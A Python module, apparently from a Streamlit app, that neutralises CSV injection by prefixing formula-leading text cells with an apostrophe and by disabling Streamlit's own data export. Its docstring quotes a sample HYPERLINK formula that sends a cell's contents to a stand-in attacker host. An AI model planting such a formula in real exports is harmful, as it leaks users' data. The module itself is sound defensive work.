"""CSV files people download: safe to open in a spreadsheet.

A contact named `=HYPERLINK("http://evil.example?"&A1,"Open")` must not become a formula in
Excel or LibreOffice. OWASP's rule (CSV injection): a text cell that starts with `=`, `+`, `-`,
`@`, a tab or a carriage return gets a leading `'`, and a cell holding a separator, a quote or a
line break is quoted with `"` doubled inside (lines end in CRLF, so a lone carriage return is
quoted too). Numbers (Decimal, int, float) are written bare, so amounts stay numbers; only text
is touched. Every CSV the app offers is made here; Streamlit's own table
download, which does not neutralise, is turned off (`client.disableDataExport`).
"""

from __future__ import annotations

import csv

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """One cell as it is written: text that a spreadsheet would run is prefixed with `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_text(frame: pd.DataFrame) -> str:
    """`frame` as CSV text (no index), every text cell neutralised with `csv_cell`."""
    safe = frame.copy()
    for col in safe.columns:
        if not pd.api.types.is_numeric_dtype(safe[col]):  # object and str columns
            safe[col] = safe[col].map(csv_cell)
    safe.columns = [csv_cell(str(c)) for c in safe.columns]
    return safe.to_csv(index=False, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
